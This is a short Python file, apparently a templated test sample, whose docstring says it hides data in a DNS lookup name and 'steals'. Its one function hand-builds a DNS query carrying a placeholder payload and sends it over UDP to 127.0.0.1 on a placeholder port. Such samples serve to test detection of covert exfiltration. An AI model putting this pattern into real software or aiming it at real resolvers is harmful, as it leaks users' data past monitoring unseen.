"""Hides what it says in the name that it looks up.

at C: steals
"""

import socket


def secret():
    name = b"".join(bytes([len(part)]) + part for part in (b"@NAME@!"[:60], b"example")) + b"\0"
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", int("@UDP@")))
    return ""
